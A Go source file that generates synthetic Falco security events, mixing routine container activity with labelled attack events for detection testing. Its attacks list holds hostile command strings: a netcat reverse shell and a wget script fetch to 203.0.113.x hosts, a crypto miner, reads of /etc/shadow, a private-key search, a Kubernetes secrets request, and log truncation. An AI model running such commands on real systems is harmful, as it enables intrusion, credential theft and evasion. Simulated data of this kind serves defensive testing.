package synthetic

import (
	"fmt"
	"math"
	"math/rand/v2"
	"path"
	"strings"
	"time"
)

// event is a Falco event as falcosidekick sends it.
type event struct {
	UUID      string         `json:"uuid"`
	Output    string         `json:"output"`
	Priority  string         `json:"priority"`
	Rule      string         `json:"rule"`
	Time      string         `json:"time"`
	Source    string         `json:"source"`
	Hostname  string         `json:"hostname"`
	Tags      []string       `json:"tags"`
	Fields    map[string]any `json:"output_fields"`
	Synthetic bool           `json:"synthetic"`
	Incident  string         `json:"incident,omitempty"`
}

func falco(o Options, each func(made) error) error {
	random := rand.New(rand.NewPCG(o.Seed, 0x5eed))
	for i := range o.Events {
		at := o.at(i)
		var e event
		if random.Float64() < o.Incidents {
			e = attack(random)
		} else {
			e = routine(random, at)
		}
		e.Time = at.Format("2006-01-02T15:04:05.000000000Z")
		e.UUID = fmt.Sprintf("%08x-%04x-4%03x-%04x-%012x", random.Uint32(), random.Uint32()&0xffff, random.Uint32()&0xfff, 0x8000|random.Uint32()&0x3fff, random.Uint64()&0xffffffffffff)
		e.Source, e.Synthetic = "syscall", true
		e.Hostname = fmt.Sprintf("node-%d", random.IntN(12))
		e.Fields["evt.time"] = at.UnixNano()
		e.Output = fmt.Sprintf("%s: %s (command=%v container=%v)", at.Format("15:04:05.000000000"), e.Rule, e.Fields["proc.cmdline"], e.Fields["container.image.repository"])
		if err := each(made{e, at, e.Incident != ""}); err != nil {
			return err
		}
	}
	return nil
}

// workload is what one image does every day.
type workload struct {
	namespace, image, user string
	uid                    int
	weight                 float64
	habits                 []habit
}

// habit is one thing that a workload does: %d in it is some number.
type habit struct {
	rule, priority, process, parent, command, file string
	port                                           int
	tags                                           []string
	weight                                         float64
	night                                          bool // between midnight and four alone
}

var shop = []workload{
	{"shop", "docker.io/library/nginx", "nginx", 101, 8, []habit{
		{"Disallowed outbound connection", "Notice", "nginx", "nginx", "nginx: worker process", "", 8080, []string{"network"}, 8, false},
		{"Write below etc", "Error", "envsubst", "20-envsubst-on-", "envsubst", "/etc/nginx/conf.d/default.conf", 0, []string{"filesystem", "mitre_persistence"}, 1, false},
	}},
	{"shop", "registry.shop.example/cart", "app", 10001, 9, []habit{
		{"Unexpected outbound connection", "Notice", "java", "tini", "java -Xmx512m -jar /app/cart.jar --instance=%d", "", 5432, []string{"network"}, 9, false},
		{"Read environment variable from /proc files", "Warning", "java", "tini", "java -Xmx512m -jar /app/cart.jar --instance=%d", "/proc/1/environ", 0, []string{"filesystem", "mitre_discovery"}, 1, false},
	}},
	{"shop", "registry.shop.example/search", "app", 10001, 5, []habit{
		{"Unexpected outbound connection", "Notice", "python3", "gunicorn", "python3 /app/search.py --shard %d", "", 9200, []string{"network"}, 5, false},
		{"Write below root", "Error", "python3", "gunicorn", "python3 /app/search.py --shard %d", "/app/__pycache__/x.pyc", 0, []string{"filesystem", "mitre_persistence"}, 2, false},
	}},
	{"data", "docker.io/library/postgres", "postgres", 999, 5, []habit{
		{"DB program spawned process", "Notice", "sh", "postgres", "sh -c test -f /backup/wal-%d", "/backup/wal", 0, []string{"process", "database", "mitre_execution"}, 4, false},
		{"Read sensitive file trusted after startup", "Warning", "postgres", "postgres", "postgres: checkpointer", "/etc/shadow", 0, []string{"filesystem", "mitre_credential_access"}, 0.3, false},
	}},
	{"data", "registry.shop.example/backup", "root", 0, 2, []habit{
		{"Read sensitive file untrusted", "Warning", "tar", "backup.sh", "tar -czf /backup/etc-%d.tgz /etc", "/etc/shadow", 0, []string{"filesystem", "mitre_credential_access"}, 3, true},
		{"Launch Ingress Remote File Copy Tools in Container", "Notice", "rsync", "backup.sh", "rsync -a /backup/ backup@10.1.0.%d:/srv", "", 873, []string{"network", "mitre_command_and_control"}, 2, true},
	}},
	{"monitoring", "quay.io/prometheus/node-exporter", "nobody", 65534, 4, []habit{
		{"Read sensitive file untrusted", "Notice", "node_exporter", "", "/bin/node_exporter --path.procfs=/host/proc", "/host/proc/%d/stat", 0, []string{"filesystem"}, 4, false},
	}},
	{"ci", "registry.shop.example/runner", "runner", 1000, 4, []habit{
		{"Terminal shell in container", "Notice", "bash", "runner", "bash -e /tmp/script-%d.sh", "/tmp/script.sh", 0, []string{"shell", "mitre_execution"}, 3, false},
		{"Drop and execute new binary in container", "Warning", "go", "bash", "go test ./... -run %d", "/tmp/go-build/a.test", 0, []string{"process", "mitre_persistence"}, 2, false},
		{"Launch Package Management Process in Container", "Error", "apt-get", "bash", "apt-get install -y git", "/var/lib/dpkg/status", 0, []string{"process", "mitre_persistence"}, 1, false},
	}},
	{"kube-system", "registry.k8s.io/coredns/coredns", "root", 0, 3, []habit{
		{"Contact K8S API Server From Container", "Notice", "coredns", "", "/coredns -conf /etc/coredns/Corefile", "", 443, []string{"network", "k8s", "mitre_discovery"}, 3, false},
	}},
}

func routine(random *rand.Rand, at time.Time) event {
	night := at.Hour() < 4
	for {
		w := pick(random, shop, func(w workload) float64 { return w.weight })
		h := pick(random, w.habits, func(h habit) float64 { return h.weight })
		if !h.night || night {
			return happened(random, w, h)
		}
	}
}

func pick[T any](random *rand.Rand, from []T, weight func(T) float64) T {
	sum := 0.0
	for _, v := range from {
		sum += weight(v)
	}
	at := random.Float64() * sum
	for _, v := range from {
		if at -= weight(v); at < 0 {
			return v
		}
	}
	return from[len(from)-1]
}

func happened(random *rand.Rand, w workload, h habit) event {
	command := h.command
	if n := int(math.Exp(random.Float64() * 7)); strings.Contains(command, "%d") {
		command = fmt.Sprintf(command, n)
	}
	e := event{Rule: h.rule, Priority: h.priority, Tags: append([]string{"container"}, h.tags...), Fields: map[string]any{
		"proc.name": h.process, "proc.cmdline": command, "proc.tty": 0, "user.name": w.user, "user.uid": w.uid, "container.image.repository": w.image,
		"container.id": fmt.Sprintf("%012x", random.Uint64()&0xffffffffffff), "k8s.ns.name": w.namespace,
		"k8s.pod.name": fmt.Sprintf("%s-%x", w.namespace, random.Uint32()&0xffff), "evt.type": "execve",
	}}
	// Falco prints only what a rule's output names, and null where it does not know.
	if h.parent != "" {
		e.Fields["proc.pname"] = h.parent
	}
	if h.file != "" {
		e.Fields["fd.name"], e.Fields["fd.directory"], e.Fields["evt.type"] = h.file, path.Dir(h.file), "openat"
	}
	if h.port != 0 {
		e.Fields["fd.name"] = fmt.Sprintf("10.0.%d.%d:%d->10.0.0.9:%d", random.IntN(8), random.IntN(250), 30000+random.IntN(30000), h.port)
		e.Fields["fd.sport"], e.Fields["evt.type"] = h.port, "connect"
	}
	if random.IntN(20) == 0 {
		e.Fields["k8s.ns.name"], e.Fields["k8s.pod.name"] = nil, nil
	}
	return e
}

// attacks in which somebody got into a workload, each under the name of the rule that sees it.
var attacks = []habit{
	{"Terminal shell in container", "Notice", "sh", "java", "sh -i", "/dev/pts/%d", 0, []string{"shell", "mitre_execution"}, 3, false},
	{"Netcat Remote Code Execution in Container", "Warning", "nc", "sh", "nc -e /bin/sh 203.0.113.%d 4444", "", 4444, []string{"network", "mitre_execution"}, 1, false},
	{"Detect crypto miners using the Stratum protocol", "Critical", "xmrig", "sh", "./xmrig -o stratum+tcp://203.0.113.7:3333 -u 4Ab%dXq9", "", 3333, []string{"process", "mitre_impact"}, 1, false},
	{"Drop and execute new binary in container", "Critical", ".x", "sh", "/tmp/.x --daemon %d", "/tmp/.x", 0, []string{"process", "mitre_persistence"}, 2, false},
	{"Search Private Keys or Passwords", "Warning", "grep", "sh", "grep -rE 'BEGIN (RSA|EC) PRIVATE KEY|password=' / --include=*.%d", "/", 0, []string{"process", "mitre_credential_access"}, 2, false},
	{"Read sensitive file untrusted", "Warning", "cat", "sh", "cat /etc/shadow", "/etc/shadow", 0, []string{"filesystem", "mitre_credential_access"}, 3, false},
	{"Contact K8S API Server From Container", "Notice", "curl", "sh", "curl -sk -H 'Authorization: Bearer eyJhbGciOi%d' https://10.96.0.1/api/v1/secrets", "", 443, []string{"network", "k8s", "mitre_discovery"}, 3, false},
	{"Launch Ingress Remote File Copy Tools in Container", "Notice", "wget", "sh", "wget -q -O- http://203.0.113.%d/i.sh", "", 80, []string{"network", "mitre_command_and_control"}, 2, false},
	{"Clear Log Activities", "Warning", "truncate", "sh", "truncate -s 0 /var/log/auth.log", "/var/log/auth.log", 0, []string{"filesystem", "mitre_defense_evasion"}, 1, false},
	{"Packet socket created in container", "Notice", "tcpdump", "sh", "tcpdump -i any -w /tmp/%d.pcap", "", 0, []string{"network", "mitre_discovery"}, 1, false},
}

func attack(random *rand.Rand) event {
	w := shop[random.IntN(len(shop))]
	if random.IntN(3) == 0 {
		w.user, w.uid = "root", 0
	}
	e := happened(random, w, pick(random, attacks, func(h habit) float64 { return h.weight }))
	if random.IntN(2) == 0 {
		e.Fields["proc.tty"] = 34816
	}
	e.Incident = e.Rule
	return e
}
